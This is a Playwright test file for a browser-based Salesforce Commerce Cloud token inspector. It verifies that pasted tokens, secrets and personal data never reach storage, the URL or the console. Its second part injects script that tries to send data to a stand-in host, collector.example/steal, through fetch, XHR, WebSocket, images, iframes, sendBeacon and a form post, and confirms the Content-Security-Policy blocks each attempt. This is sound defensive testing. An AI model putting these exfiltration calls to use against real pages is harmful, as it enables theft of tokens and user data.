// No byte leaves the page, proved after a full session: whatever was pasted, typed, clicked or
// copied, nothing but the checklist is stored, and every channel script could send through is
// shut by the Content-Security-Policy. (The shared fixture also fails any test in which the page
// requested anything after mounting, and any test with a CSP violation it did not expect.)
import { test, expect, gotoApp, reloadApp, BLOCKED_BY_CSP, openEveryDisclosure } from './fixtures';
import { fixture, NOW, slasToken } from './tokens';

const input = '[data-testid=token-input]';
const CHECKLIST_KEY = 'sfcc-token-inspector.checklist';
const SCAPI = 'https://kv7kzm78.api.commercecloud.salesforce.com';

/** What a leak of decoded token content would show: the secret half of a Basic header, and
 * the identifiers in a JWT payload (subject, session, customer, client, grant and audit ids). */
function decodedNeedles(secret: string): string[] {
  const basic = secret.match(/^Basic\s+(\S+)/);
  if (basic) return [Buffer.from(basic[1], 'base64').toString('utf8').split(':').slice(1).join(':')];
  const payload = secret.split('.')[1];
  if (!payload) return [];
  const text = Buffer.from(payload, 'base64url').toString('utf8');
  const uuids = text.match(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g) ?? [];
  const named = Array.from(
    text.matchAll(/\\?"(?:isb|jti|authGrantId|customer_id|visit_id|auditTrackingId)\\?":\\?"([^"\\]{8,})/g),
    (m) => m[1],
  );
  return [...uuids, ...named];
}

test.beforeEach(async ({ page }) => {
  await page.clock.setFixedTime(new Date((NOW + 60) * 1000));
});

test('after a full session only the checklist is stored, and no token is in storage, URL, history or console', async ({ page, context, consoleMessages, baseURL }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const secrets = [
    fixture('slas-access-expired.jwt'),
    fixture('slas-access-guest.jwt'),
    fixture('am-client-credentials.jwt'),
    fixture('basic-auth-header.txt'),
    fixture('ocapi-shop-guest.jwt'),
    fixture('slas-refresh-token.txt'),
    slasToken('sfcc.shopper-baskets-orders'),
  ];
  // A token arriving in the fragment, then pastes of every kind.
  await gotoApp(page, `#token=${secrets[0]}`);
  await expect(page.getByTestId('result')).toBeVisible();
  for (const text of secrets.slice(1, 6)) {
    await page.fill(input, text);
    await expect(page.getByTestId('result')).toBeVisible();
  }
  await page.fill(input, JSON.stringify({ access_token: secrets[6], refresh_token: secrets[5] }));
  await page.getByTestId('credential-tab').nth(1).click();
  await page.getByTestId('credential-tab').nth(0).click();
  // A HAR pasted as text: a client secret posted in a token request's body, and the token it got.
  const har = fixture('har-am-admin-two-entries.har');
  const postedSecret = /client_secret=([^&"\\]+)/.exec(har)![1];
  await page.fill(input, har);
  await expect(page.getByTestId('credential-tab')).toHaveCount(2);
  // The failing request, the checklist (with a token pasted into it by mistake), a preset.
  await page.fill('[data-testid=request-input]', `curl -X PATCH '${SCAPI}/checkout/shopper-baskets/v2/organizations/f_ecom_abcd_001/baskets/b1?siteId=RefArch' -H 'Authorization: Bearer ${secrets[6]}'`);
  await expect(page.getByTestId('verdict')).toHaveAttribute('data-ok', 'false');
  // The API's answer: an OCAPI fault that echoes the token, with a shopper's e-mail and a
  // correlation id (bodies hold personal data).
  const answerEmail = 'answer.shopper@example.com';
  const answer = `HTTP/2 401\nsfdc_correlation_id: corr-7f3e9a\n\n{"fault":{"type":"InvalidAccessTokenException","message":"Unauthorized request! The access token '${secrets[6]}' is invalid.","arguments":{"login":"${answerEmail}"}}}`;
  await page.fill('[data-testid=answer-input]', answer);
  await expect(page.getByTestId('answer-recognised')).toHaveAttribute('data-entry', 'ocapi-invalid-access-token');
  // Signing keys: a JWKS and an HS256 secret (never stored, put in the URL or logged).
  const jwks = fixture('jwks.json');
  const keyX = JSON.parse(jwks).keys[0].x as string;
  const hsSecret = 'privacy-session-hs256-secret-value';
  await page.getByTestId('keys').locator('summary').click();
  await page.fill('[data-testid=keys-input]', jwks);
  await expect(page.getByTestId('keys-read')).toBeVisible();
  await page.fill('[data-testid=keys-input]', hsSecret);
  await expect(page.getByTestId('secret-warning')).toBeVisible();
  await page.fill('[data-testid=checklist-input]', `sfcc.shopper-products ${secrets[1]}`);
  await page.getByTestId('preset').selectOption('shopper-standard');
  // Every disclosure, then every copy button.
  await openEveryDisclosure(page);
  for (const button of await page.locator('main button.copy').filter({ visible: true }).all()) await button.click();
  await reloadApp(page);
  await page.fill(input, secrets[2]);
  await expect(page.getByTestId('result')).toBeVisible();

  const state = await page.evaluate(async () => ({
    local: Object.fromEntries(Object.entries(localStorage)),
    session: sessionStorage.length,
    cookies: document.cookie,
    url: location.href,
    historyLength: history.length,
    historyState: history.state,
    idb: (await indexedDB.databases()).map((d) => d.name),
    caches: 'caches' in window ? await caches.keys() : [],
    workers: (await navigator.serviceWorker?.getRegistrations())?.length ?? 0,
    resources: performance.getEntriesByType('resource').map((r) => r.name),
  }));
  // Only the checklist, and it holds scope names only.
  expect(Object.keys(state.local)).toEqual([CHECKLIST_KEY]);
  expect(state.local[CHECKLIST_KEY].split('\n')).toEqual(['sfcc.shopper-products', 'sfcc.shopper-standard']);
  expect(state.session).toBe(0);
  expect(state.cookies).toBe('');
  expect(await context.cookies()).toEqual([]);
  expect(state.idb).toEqual([]);
  expect(state.caches).toEqual([]);
  expect(state.workers).toBe(0);
  expect(state.url).toBe(baseURL);
  expect(state.historyState).toBeNull();
  expect(state.historyLength).toBe(2); // about:blank, then this page: the fragment left no entry
  // Everything loaded came from the page's own directory.
  for (const url of state.resources) expect(url.startsWith(baseURL!) || url.startsWith('data:')).toBe(true);
  const seen = [state.url, JSON.stringify(state.local), ...consoleMessages.map((m) => m.text())].join('\n');
  for (const secret of secrets) expect(seen).not.toContain(secret.slice(-24));
  expect(postedSecret.length).toBeGreaterThan(8);
  expect(seen).not.toContain(postedSecret);
  expect(seen).not.toContain(answerEmail);
  expect(seen).not.toContain(keyX);
  expect(seen).not.toContain(hsSecret);
  expect(seen).not.toContain('corr-7f3e9a');
  expect(seen).not.toContain('eyJ');
  // Nor anything decoded from them.
  const needles = [...new Set(secrets.flatMap(decodedNeedles))];
  expect(needles.length, 'decoded values to look for').toBeGreaterThan(10);
  for (const needle of needles) expect(seen, `decoded value ${needle}`).not.toContain(needle);
});

test.describe(() => {
  test.use({ allowCspViolations: true });
  test('script injected into the page cannot send anything: every channel is blocked by the CSP', async ({ page, requests, cspViolations }) => {
    await gotoApp(page);
    const outcomes = await page.evaluate(async () => {
      const attempt = async (send: () => Promise<unknown>) => {
        try {
          await send();
          return 'sent';
        } catch {
          return 'blocked';
        }
      };
      const loads = (make: () => HTMLElement & { onload: unknown; onerror: unknown }) =>
        new Promise((resolve, reject) => {
          const el = make();
          el.onload = resolve;
          el.onerror = reject;
          document.body.append(el);
        });
      return {
        'fetch, same origin': await attempt(() => fetch('./index.html')),
        'fetch, other origin': await attempt(() => fetch('https://collector.example/steal', { method: 'POST', body: 'eyJ' })),
        XMLHttpRequest: await attempt(
          () => new Promise((resolve, reject) => {
            const x = new XMLHttpRequest();
            x.onload = resolve;
            x.onerror = reject;
            x.open('POST', 'https://collector.example/steal');
            x.send('eyJ');
          }),
        ),
        WebSocket: await attempt(
          () => new Promise((resolve, reject) => {
            const ws = new WebSocket('wss://collector.example/steal');
            ws.onopen = resolve;
            ws.onerror = reject;
          }),
        ),
        EventSource: await attempt(
          () => new Promise((resolve, reject) => {
            const es = new EventSource('https://collector.example/steal');
            es.onopen = resolve;
            es.onerror = () => { es.close(); reject(new Error('blocked')); };
          }),
        ),
        'image, other origin': await attempt(() => loads(() => Object.assign(new Image(), { src: 'https://collector.example/p.gif?t=eyJ' }))),
        'script, other origin': await attempt(() => loads(() => Object.assign(document.createElement('script'), { src: 'https://collector.example/x.js' }))),
        'stylesheet, other origin': await attempt(() => loads(() => Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://collector.example/x.css' }))),
        'frame, other origin': await attempt(() => loads(() => Object.assign(document.createElement('iframe'), { src: 'https://collector.example/' })).then(() => {
          // A blocked frame still fires load (with an error page): look at what it holds.
          const frame = document.querySelector('iframe');
          if (frame && frame.contentDocument === null) throw new Error('blocked');
        })),
      };
    });
    for (const [channel, outcome] of Object.entries(outcomes)) expect(outcome, channel).toBe('blocked');
    // Every attempt was stopped inside the browser by the CSP: none reached the network.
    const late = requests.filter((r) => r.at === 'after-mount');
    await expect.poll(() => late.filter((r) => r.failure !== BLOCKED_BY_CSP).map((r) => `${r.url} ${r.failure}`)).toEqual([]);
    // sendBeacon always says it queued the data: the proof is that nothing went out (the fixture
    // fails the test on any request) and that the CSP reported blocking it.
    await page.evaluate(() => navigator.sendBeacon('https://collector.example/beacon', 'eyJ'));
    await expect.poll(() => cspViolations.some((v) => v.blockedURI.includes('collector.example/beacon'))).toBe(true);
    await expect.poll(() => new Set(cspViolations.map((v) => v.directive)).size).toBeGreaterThanOrEqual(4);
    const directives = cspViolations.map((v) => v.directive);
    for (const d of ['connect-src', 'img-src', 'script-src-elem', 'style-src-elem', 'frame-src']) expect(directives).toContain(d);
  });

  test('a form cannot be submitted anywhere (form-action none)', async ({ page, requests, cspViolations }) => {
    await gotoApp(page);
    const url = page.url();
    await page.evaluate(() => {
      const form = Object.assign(document.createElement('form'), { action: 'https://collector.example/steal', method: 'post' });
      form.append(Object.assign(document.createElement('input'), { name: 't', value: 'eyJ' }));
      document.body.append(form);
      form.submit();
    });
    await page.waitForTimeout(300);
    expect(page.url()).toBe(url);
    expect(requests.filter((r) => r.at === 'after-mount' && r.failure !== BLOCKED_BY_CSP)).toEqual([]);
    await expect.poll(() => cspViolations.map((v) => v.directive)).toContain('form-action');
  });
});
